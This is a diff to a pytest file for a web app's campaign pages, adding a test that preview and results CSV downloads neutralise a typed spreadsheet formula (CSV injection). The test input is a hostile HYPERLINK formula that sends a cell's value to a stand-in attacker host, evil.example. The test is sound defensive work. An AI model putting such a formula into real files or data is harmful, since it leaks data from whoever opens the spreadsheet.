@@ -1,5 +1,7 @@
 """The campaign pages: list, form, board with live updates, upload, preview, results."""
 
+import csv as csv_module
+import io
 import re
 
 import pytest
@@ -218,6 +220,27 @@ def test_a_do_not_call_upload_with_a_nul_is_refused_naming_its_line(client_for, 
     assert response.status_code == 200
     assert "Line 2 holds a NUL character" in response.content.decode()
     assert not listed.numbers.exists()
+
+
+def test_the_preview_and_results_files_quote_a_typed_formula(client_for, operator_user):
+    # A contact's number as typed in the uploaded file is shown when it is not a number; a
+    # spreadsheet opening the download must show it, never run it (OWASP's CSV injection).
+    client = client_for(operator_user)
+    campaign = CampaignFactory()
+    typed = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+    csv = f'number\n+31201234567\n"{typed.replace(chr(34), chr(34) * 2)}"\n'.encode()
+    client.post(f"/campaigns/{campaign.pk}/contacts",
+                {"file": SimpleUploadedFile("list.csv", csv, "text/csv")})
+
+    def download(path: str) -> list[dict]:
+        body = b"".join(client.get(path).streaming_content).decode()
+        return list(csv_module.DictReader(io.StringIO(body)))
+
+    preview = download(f"/campaigns/{campaign.pk}/preview?format=csv")
+    results = download(f"/campaigns/{campaign.pk}/results.csv")
+
+    assert [row["number"] for row in preview] == ["+31201234567", "'" + typed]
+    assert [row["number"] for row in results] == ["+31201234567", "'" + typed]
 
 
 def test_viewers_cannot_start_a_campaign(client_for, viewer_user):
